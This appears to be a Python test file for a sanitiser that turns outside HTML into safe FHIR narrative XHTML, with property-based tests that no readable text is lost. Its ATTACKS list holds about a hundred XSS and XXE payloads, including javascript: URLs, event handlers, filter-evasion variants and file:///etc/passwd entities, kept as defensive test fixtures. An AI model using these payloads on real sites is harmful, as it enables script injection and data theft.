"""HTML from outside: nothing in it acts, and no word of it is lost."""

import html
import re
from html.parser import HTMLParser
from typing import TypeAlias

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from mappings.fhir.narrative import sanitise, text_div
from mappings.fhir.xhtml import ELEMENTS, SPACE, is_narrative, narrative_faults

OPEN = f'<div xmlns="{SPACE}">'
LINK = re.compile(r"(?:https?|mailto|tel):|[^:]*(?:[/?#]|$)")

# Each of these would run, load, submit, frame or restyle something in some browser.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",
    "<script/x>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "</script><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img src='jav&#x09;ascript:alert(1)'>",
    "<img src=' &#14; javascript:alert(1)'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='https://tracker.example/pixel.gif'>",
    "<img srcset='https://tracker.example/a 1x' src='#a'>",
    "<img lowsrc='https://tracker.example/a'>",
    "<img dynsrc='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u200bjavascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='https://ok.example' onclick='alert(1)' target=_blank ping='https://evil.example'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code='evil.class'></applet>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<form action='https://evil.example'><input type=submit></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus></select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src='https://evil.example/x' onerror=alert(1)></video>",
    "<audio><source onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<body background='javascript:alert(1)'>",
    "<table background='javascript:alert(1)'><tr><td background='https://evil.example'>x</table>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='background-image:url(https://evil.example/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='width:exp/**/ression(alert(1))'>x</div>",
    r"<div style='w\69dth:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x.xml#y)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<p style='display:none'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<title><script>alert(1)</script></title>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><p>&x;</p>",
    f"<!DOCTYPE div [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{OPEN}&x;</div>",
    f"{OPEN}<script>alert(1)</script></div>",
    f"{OPEN}<script xmlns=''>alert(1)</script></div>",
    f"{OPEN}<p onclick='alert(1)'>x</p></div>",
    f"{OPEN}<![CDATA[<script>alert(1)</script>]]></div>",
    f"{OPEN}<img src='x' onerror='alert(1)'/></div>",
    "<p/onclick=alert(1)>x</p>",
    "<p a=`'`onmouseover=alert(1)`>x</p>",
    "<p title=\"x' onmouseover='alert(1)\">x</p>",
    "<p id=x tabindex=1 onfocusin=alert(1)>x</p>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<div contenteditable onpaste=alert(1)>x</div>",
    "\ufeff<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
)


class Browser(HTMLParser):
    """Another parser's view of what was written: the tags with their attributes, and the text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.shown = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.shown += data


def assert_harmless(clean: str) -> None:
    assert narrative_faults(clean) <= {"txt-2"}
    for tag, attributes in Browser(clean).tags:
        assert tag in ELEMENTS
        assert not {name for name in attributes if name.startswith("on")}
        assert LINK.match(attributes.get("href") or "")
        assert (attributes.get("src") or "#").startswith(("data:image/", "#"))
        assert not {"(", "\\", "@", "/"} & set(attributes.get("style") or "")


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize("around", ["{}", "<p>before {} after</p>", "<ul><li>{}</ul>"])
def test_an_attack_comes_out_harmless_and_clean(attack: str, around: str) -> None:
    clean = sanitise(around.replace("{}", attack))
    assert_harmless(clean)
    assert sanitise(clean) == clean


def words(text: str) -> str:
    return " ".join(Browser(text).shown.split())


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Jag vill <!-- x -->inte flytta", "Jag vill inte flytta"),
        ("Jag vill <?php x ?>inte flytta", "Jag vill inte flytta"),
        ("Vill <blink>inte</blink> flytta", "Vill inte flytta"),
        ("Vill <s>inte</s> flytta", "Vill inte flytta"),
        ("<p style='display:none'>inte</p>", "inte"),
        ("<section>Vill</section><section>inte</section>", "Vill inte"),
        ("<title>Plan</title><p>Gå ut</p>", "Plan Gå ut"),
        ("<p>Ont <5 dagar & feber >38</p>", "Ont <5 dagar & feber >38"),
        ("a &lt;b&gt; &amp;amp; &nbsp;&aring;", "a <b> &amp; å"),
        ("<img src='https://x.example/a.png' alt='Bild av trappan'>", "Bild av trappan"),
        ("<input type=checkbox checked> Hemtjänst <input type=checkbox> Larm",
         "[x] Hemtjänst [ ] Larm"),
        ("<input type=radio> Ja <input type=radio checked> Nej", "[ ] Ja [x] Nej"),
        ("<input value='Gå ut'><input type=hidden value=token>", "Gå ut"),
        ("<input type=password value=secret>x", "x"),
        ("<input type=image alt=Skicka>", "Skicka"),
        ("<select><option>Ja<option selected>Nej</select>", "[ ] Ja [x] Nej"),
        ("<textarea>Gå\nut</textarea><button>Spara</button>", "Gå ut Spara"),
        ("<object data=x>fallback</object>", "fallback"),
        ("<noscript>Slå på script</noscript>", "Slå på script"),
        ("<svg><text>diagram</text></svg>", "diagram"),
        (f"{OPEN}<br>not void in XML</br></div>", "not void in XML"),
        ("<div>" * 300 + "djupt <script>x</script>inte &amp; mer" + "</div>" * 300,
         "djupt inte & mer"),
        ("<iframe>x</iframe>" + "<div>" * 300 + "a<style>b</style>c</style>d", "a c d"),
    ],
)  # fmt: skip
def test_no_readable_text_is_lost(text: str, shown: str) -> None:
    clean = sanitise(text)
    separated = re.sub("</(div|pre)>|<p>", r"\g<0> ", clean)
    assert words(separated) == shown
    assert_harmless(clean)


def test_what_a_narrative_may_hold_is_kept() -> None:
    text = (
        f'{OPEN}<h1 title="t">Plan</h1><table><tr><th scope="col" colspan="2">a</th></tr>'
        '<tr><td style="text-align: right">b</td></tr></table><ol start="3"><li>c</li></ol>'
        '<p lang="sv" xml:lang="sv">d<br/>e <a href="https://1177.se/x?y=1#z">f</a></p>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="g"/><q cite="https://x.example">h</q>'
        "</div>"
    )
    assert sanitise(text) == text


def test_the_styles_that_only_format_are_kept_and_the_others_dropped() -> None:
    clean = sanitise("<p style='TEXT-ALIGN : left;;color:red;display:none; padding:1px  2px'>x</p>")
    assert clean == f'{OPEN}<p style="text-align: left; padding: 1px 2px">x</p></div>'


def test_a_single_div_is_not_wrapped_in_another() -> None:
    assert sanitise("<html><body>\n<div lang=nb><p>x</p></div>\n</body></html>") == (
        f'<div xmlns="{SPACE}" lang="nb"><p>x</p></div>'
    )
    assert sanitise("<div>x</div>y") == f"{OPEN}<div>x</div>y</div>"
    assert sanitise("y<div>x</div>") == f"{OPEN}y<div>x</div></div>"


@pytest.mark.parametrize("text", ["", " ", "<script>x</script>", "<!-- x -->"])
def test_text_without_content_is_an_empty_div(text: str) -> None:
    assert words(sanitise(text)) == ""
    assert narrative_faults(sanitise(text)) == {"txt-2"}


def test_a_link_keeps_its_blanks_encoded() -> None:
    assert sanitise("<a href=' mailto:a@b.example?subject=x y '>z</a>") == (
        f'{OPEN}<a href="mailto:a@b.example?subject=x%20y">z</a></div>'
    )


PIECES = st.sampled_from(
    [
        *("<p>", "</p>", "<b>", "</b>", "<div>", "</div>", "<table>", "<tr>", "<td>", "</table>"),
        *("<br>", "<br/>", "<pre>", "<form>", "<option>", "<li>", "<a href='x'>", "<h1>", "<s>"),
        *("<title>", "<svg>", "<!--", "-->", "<![CDATA[", "]]>", "<", ">", "&", "&lt;", "&#13;"),
        *('"', "'", " ", "\n", "\r", "\t", "<p title='&quot;x\n'>", "<script>", "</script>"),
        *("<textarea>", "</textarea>", "\x00", "\ud800", "\ufffe", OPEN, "</div>", "å", "x"),
    ]
)


@given(st.lists(st.one_of(PIECES, st.text(max_size=4)), max_size=20).map("".join))
def test_whatever_comes_is_harmless_and_cleaning_it_again_changes_nothing(text: str) -> None:
    clean = sanitise(text)
    assert_harmless(clean)
    etree.fromstring(clean)
    assert sanitise(clean) == clean


NAMES = st.sampled_from(["p", "b", "div", "section", "blink", "td", "label", "li", "font", "x-y"])
WORDS = st.text(st.sampled_from("abcåäö <>&\"'"), min_size=1, max_size=6)
TREES = st.recursive(
    WORDS,
    lambda inner: st.tuples(NAMES, st.lists(inner, max_size=3)),
)


Tree: TypeAlias = "str | tuple[str, list[Tree]]"


def _html(tree: Tree) -> str:
    if isinstance(tree, str):
        return html.escape(tree)
    name, inner = tree
    return f"<{name}>{''.join(map(_html, inner))}</{name}>"


def _words(tree: Tree) -> str:
    return tree if isinstance(tree, str) else "".join(map(_words, tree[1]))


@given(TREES)
def test_every_word_of_any_html_comes_through_in_its_order(
    tree: Tree,
) -> None:
    shown = Browser(sanitise(_html(tree))).shown
    assert "".join(shown.split()) == "".join(_words(tree).split())


@given(st.lists(st.text(max_size=20), max_size=4))
def test_plain_words_become_paragraphs_that_say_the_same(paragraphs: list[str]) -> None:
    made = text_div(paragraphs)
    assert narrative_faults(made) <= {"txt-2"}
    assert sanitise(made) == made


def test_the_lines_of_a_paragraph_are_set_apart() -> None:
    assert text_div(["Gå ut\noch <orka> & sova", "", "Hem"]) == (
        f"{OPEN}<p>Gå ut<br/>och &lt;orka&gt; &amp; sova</p><p>Hem</p></div>"
    )
    assert is_narrative(text_div(["x"]))
